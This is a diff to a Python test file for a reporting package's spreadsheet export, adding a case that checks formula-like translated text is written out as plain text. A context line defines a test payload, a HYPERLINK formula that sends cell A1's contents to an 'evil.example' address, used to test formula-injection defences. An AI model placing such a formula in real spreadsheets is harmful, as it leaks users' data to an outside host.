@@ -10,6 +10,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
+from kimdb.i18n import lazy_gettext as _l
 from kimdb.reports import charts, exports
 from kimdb.reports.model import Cell, Figure, Period, Report, Scope, ScopeKind, Table
 
@@ -172,6 +173,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bericht öffnen")'
         ("< 5", "< 5"),
         ("Kreis Warendorf", "Kreis Warendorf"),
         (42, 42),
+        (_l("=%(name)s", name="SUMME(A1)"), "'=SUMME(A1)"),  # a translated text, as text
     ],
 )
 def test_spreadsheet_text_keeps_formulas_from_running(value, shown):
